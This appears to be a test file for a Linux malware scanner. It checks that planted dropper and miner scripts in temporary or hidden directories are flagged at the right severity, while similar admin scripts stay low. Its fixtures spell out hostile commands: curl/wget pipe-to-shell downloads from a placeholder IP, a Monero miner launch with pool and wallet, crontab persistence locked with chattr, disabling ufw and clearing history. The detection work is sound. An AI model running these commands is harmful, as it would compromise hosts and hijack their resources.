/**
 * Dropper and launcher scripts at rest, judged by the command-line rules wherever they
 * are and weighted by place: in a temporary or hidden directory a rule keeps its
 * severity, in the open in a home or /root (where admins keep install scripts) only a
 * malware-specific rule does. Several droppers in their own wording and places, and the
 * admin scripts that do alike things and must stay low.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { scriptsAtRestCheck, placeOf } from '../../src/checks/scripts-at-rest.js';
import { cronCheck } from '../../src/checks/cron.js';
import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { plantFiles } from '../helpers/planted-tree.js';

const WALLET = '4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK';
const loud = (f: Finding) => severityRank(f.severity) >= severityRank('medium');
const rulesAt = (findings: Finding[], p: string) => [...new Set(findings.filter((f) => f.path === p && loud(f)).map((f) => `${f.rule} ${f.severity}`))].sort();

describe('scripts at rest', () => {
  let scratch: string;
  let findings: Finding[];

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-scripts-at-rest-');
    const root = path.join(scratch, 'root');
    const x = (content: string) => ({ content, mode: 0o755 });
    await plantFiles(root, {
      'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nweb:x:1005:1005::/home/web:/bin/bash\n',
      // A hidden /var/tmp directory: downloads, runs, kills rivals.
      'var/tmp/.font-unix/.d/run.sh': x('#!/bin/sh\nkillall -9 xmrig minerd cpuminer\nwget -qO- http://198.51.100.4/s | sh\n'),
      // /dev/shm in the open, no shebang, no extension, but executable: a miner with its pool.
      'dev/shm/go': x(`cd /dev/shm\n./x -o gulf.moneroocean.stream:10128 -u ${WALLET} -k\n`),
      // A hidden directory in a user's home: plants a crontab line and locks the crontab.
      'home/web/.config/.htop/refresh.sh': x('#!/bin/bash\necho "* * * * * /home/web/.config/.htop/refresh.sh" | crontab -\nchattr +i /var/spool/cron/crontabs/web\n'),
      // A .sh that is not executable is still a script someone runs with sh.
      'tmp/.X0-lock.d/x.sh': '#!/bin/sh\ncurl -s http://198.51.100.4/k | bash\n',
      // In the open in /root: a miner launcher (malware-specific) and an installer (not).
      'root/xm.sh': x(`#!/bin/bash\nnohup /opt/.m/sysd --donate-level 1 -o stratum+tcp://pool.hashvault.pro:443 -u ${WALLET} &\n`),
      'root/get-agent.sh': x('#!/bin/sh\nset -e\ncurl -fsSL https://packages.example.com/agent/setup.sh | bash\nsystemctl stop ufw\nsystemctl start agent\n'),
      'home/web/deploy.sh': x('#!/bin/bash\ncd /srv/www && git pull\nhistory -c\n'),
      // A python script in /tmp: not shell, not read as shell.
      'tmp/job.py': x('#!/usr/bin/python3\nimport os\nos.system("curl http://198.51.100.4/x | sh")\n'),
      // A script a cron line starts is started-scripts' to judge, once.
      'etc/cron.d/tmpjob': '* * * * * root /tmp/.cron.sh\n',
      'tmp/.cron.sh': x('#!/bin/sh\ncurl -s http://198.51.100.4/c | sh\n'),
    });
    const result = await scanDirectory(root, [scriptsAtRestCheck, cronCheck, startedScriptsCheck]);
    expect(result.errors).toEqual([]);
    findings = result.findings;
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('judges scripts in temporary and hidden places by the command-line rules, at their severity', () => {
    expect(rulesAt(findings, '/var/tmp/.font-unix/.d/run.sh')).toEqual(['command.download-and-run high', 'command.kill-miner medium', 'command.kill-miners high']);
    expect(rulesAt(findings, '/dev/shm/go')).toEqual(['command.miner high', 'command.started-from-temp high']);
    expect(rulesAt(findings, '/home/web/.config/.htop/refresh.sh')).toEqual(['command.chattr-lock high']);
    expect(rulesAt(findings, '/tmp/.X0-lock.d/x.sh')).toEqual(['command.download-and-run high']);
    const f = findings.find((x) => x.path === '/dev/shm/go')!;
    expect(f.category).toBe('dropper/script-at-rest');
    expect(f.message).toContain('a script at rest in a world-writable temporary directory');
    expect(f.remediation).toContain("rm -f /dev/shm/go");
  });

  it('keeps a malware-specific rule high in the open, and holds the rest of an admin script at low', () => {
    expect(rulesAt(findings, '/root/xm.sh')).toContain('command.miner high');
    expect(rulesAt(findings, '/root/get-agent.sh')).toEqual([]);
    expect(findings.filter((x) => x.path === '/root/get-agent.sh').map((x) => `${x.rule} ${x.severity}`).sort()).toEqual([
      'command.disable-security low',
      'command.download-and-run low',
    ]);
    expect(rulesAt(findings, '/home/web/deploy.sh')).toEqual([]);
  });

  it('leaves other interpreters to their own rules and a started script to started-scripts', () => {
    expect(findings.filter((x) => x.path === '/tmp/job.py')).toEqual([]);
    expect(findings.filter((x) => x.path === '/tmp/.cron.sh').map((x) => x.category)).toEqual(['persistence/script']);
  });

  it('weighs places: temporary, hidden (not the per-user tool directories), open', () => {
    expect(placeOf('/tmp/a.sh')).toBe('temporary');
    expect(placeOf('/root/.cache/.p/u.sh')).toBe('hidden');
    expect(placeOf('/root/.x.sh')).toBe('hidden');
    expect(placeOf('/home/u/.nvm/nvm.sh')).toBe('open');
    expect(placeOf('/home/u/.local/bin/tool')).toBe('open');
    expect(placeOf('/root/get-docker.sh')).toBe('open');
  });
});
